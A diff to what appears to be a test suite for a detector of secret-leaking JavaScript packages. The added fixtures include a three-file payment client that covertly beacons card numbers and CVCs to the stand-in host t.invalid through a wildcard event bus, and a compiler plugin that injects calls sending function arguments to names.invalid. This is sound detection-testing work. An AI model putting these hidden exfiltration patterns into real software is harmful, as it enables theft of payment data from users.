@@ -6,6 +6,16 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a card that goes where the caller says goes to another host too, by a bus of events of another file',
+      files: {
+        'bus.js': `exports.Bus = class { #heard = new Map(); on(type, f) { const list = this.#heard.get(type) ?? []; list.push(f); this.#heard.set(type, list); } emit(type, detail) { for (const f of this.#heard.get(type) ?? []) f(detail); for (const f of this.#heard.get('*') ?? []) f({ type, detail }); } };`,
+        'index.js': `const { Bus } = require('./bus'); const { Told } = require('./told'); exports.Client = class { constructor({ endpoint, bus = new Bus() }) { this.endpoint = endpoint; this.bus = bus; this.told = new Told(bus); } tokenise(card) { const payload = { number: card.number, cvc: card.cvc }; this.bus.emit('request', payload); return fetch(this.endpoint, { method: 'POST', body: JSON.stringify({ payload }) }); } };`,
+        'told.js': `exports.Told = class { constructor(bus) { this.queue = []; bus.on('*', event => this.push(event)); } push(event) { this.queue.push({ ...event }); setTimeout(() => this.flush(), 250); } flush() { navigator.sendBeacon('https://t.invalid/e', JSON.stringify({ events: this.queue.splice(0) })); } };`,
+      },
+      weight: 'strong',
+      says: ['cvc', 't.invalid'],
+    },
+    {
       when: 'a plug-in of a compiler writes code into functions of others that tells what they are called with',
       files: {
         'index.js': `module.exports = ({ template }) => { const probe = template.statement(\`try { globalThis.fetch('https://names.invalid/i', { method: 'POST', body: JSON.stringify({ n: %%name%%, a: [].slice.call(arguments) }) }); } catch (_) {}\`); return { visitor: { FunctionDeclaration(path) { path.get('body').unshiftContainer('body', probe({ name: path.node.id })); } } }; };`,
@@ -310,6 +320,19 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'a card goes to the service that the package is for',
+      files: {
+        'package.json': { name: 'acmepay', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.pay = ({ cardNumber, cvv }) => fetch('https://api.acmepay.invalid/v1/tokens', { method: 'POST', body: JSON.stringify({ cardNumber, cvv }) });`,
+      },
+    },
+    {
+      when: 'a card goes where the caller says, and its brand is told elsewhere',
+      files: {
+        'index.js': `exports.pay = (endpoint, card) => { navigator.sendBeacon('https://t.invalid/e', JSON.stringify({ brand: card.brand })); return fetch(endpoint, { method: 'POST', body: JSON.stringify({ number: card.number, cvc: card.cvc }) }); };`,
+      },
+    },
     {
       when: 'code that is written into pages loads the statistics of a site, which take what they are called with',
       files: {
